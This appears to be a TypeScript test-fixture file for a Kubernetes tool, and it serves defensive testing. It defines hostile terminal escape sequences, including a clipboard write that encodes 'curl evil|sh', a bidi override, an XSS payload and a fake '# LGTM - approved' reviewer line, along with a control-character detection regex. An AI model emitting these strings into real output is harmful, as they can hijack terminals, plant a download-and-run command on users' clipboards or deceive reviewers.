/** What a non-root user on a node can put in a config comment, a path or an error message. */
export const TITLE = '\x1b]0;pwned\x07';
export const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
export const CLEAR = '\x1b[2J\x1b[H';
export const RLO = '\u202e';
export const C1_CSI = '\u009b31m';
export const HOSTILE = `${TITLE}${CLIPBOARD}${CLEAR}${RLO}${C1_CSI}`;
export const IMG = '<img src=x onerror=alert(1)>';
export const LGTM = '# LGTM - approved';

/**
 * A control character a terminal, an XML parser or a reader's eye would act on: C0 (newline aside:
 * the line breaks of an output are its own), DEL, C1, bidi marks, embeddings, overrides and
 * isolates, zero-width and invisible format characters, the BOM.
 */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
export const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;

/** The text without the SGR colour codes kubemend itself writes (what is left must be data). */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
export const withoutOwnColours = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, '');
